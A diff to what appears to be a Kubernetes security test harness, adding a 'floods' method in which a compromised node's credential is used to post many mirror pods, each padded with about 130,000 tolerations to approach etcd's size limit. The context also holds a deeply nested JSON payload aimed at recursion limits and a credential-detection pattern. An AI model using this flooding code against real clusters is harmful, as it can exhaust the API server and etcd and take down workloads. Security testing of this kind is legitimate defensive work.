@@ -48,6 +48,8 @@ _UID = "@uid-of-its-node@"
 _DEEP, _LEVELS = "@fields of fields@", 1500
 """In the body of an attempt: JSON of so many levels, which is put there as text. Python allows 1000 calls."""
 _NESTED = '{"f:a":' * _LEVELS + "{}" + "}" * _LEVELS
+_TOLERATIONS, _LONG = 130_000, "/run/intruder/tolerations"
+"""Of a pod that is nearly as long as etcd takes one, and the file that has them."""
 _TELLTALE = "PRIVATE KEY|client-key-data|eyJhbGciOi"
 """What every credential that the API takes has in it: a key, or a token."""
 
@@ -136,6 +138,27 @@ class Worker:
             lines.clear()
         assert answers.keys() == {one.name for one in attempts}, said
         return answers
+
+    def floods(self, credential: Credential, number: int) -> list[str]:
+        """Mirror pods, each about as long as etcd takes one; their names."""
+        uid = self.cluster.kubectl("get", "node", self.name, "-o", "jsonpath={.metadata.uid}")
+        pod = _mirror("@name@", self.name)
+        pod["spec"]["tolerations"] = "@many@"
+        before, between, after = re.split('@name@|"@many@"', json.dumps(pod).replace(_UID, uid))
+        tolerations = f"""$(printf '{{"key":"a"}},%.0s' $(seq {_TOLERATIONS - 1}))"""
+        self.cluster.shell(self.name, f"""mkdir -p /run/intruder; echo "[{tolerations}"'{{"key":"a"}}]' >{_LONG}""")
+        url = "https://127.0.0.1:6443/api/v1/namespaces/kube-system/pods"
+        send = f"{credential.curl} -sS -m 50 --cacert /etc/kubernetes/pki/ca.crt -H 'Content-Type: application/json'"
+        names = [f"intruder-long-{count}" for count in range(number)]
+        for name in names:
+            body = (
+                f"{{ printf %s {shlex.quote(before + name + between)}; cat {_LONG}; printf %s {shlex.quote(after)}; }}"
+            )
+            said = self.cluster.shell(
+                self.name, f"{body} | curl {send} -d @- -o /dev/null -w '%{{http_code}}' {url} 2>&1 || true"
+            )
+            assert said == str(CREATED), (name, said)
+        return names
 
     def is_known(self, credential: Credential) -> bool:
         """Whether the API server takes it for somebody: of one that it does not know all is refused anyway."""
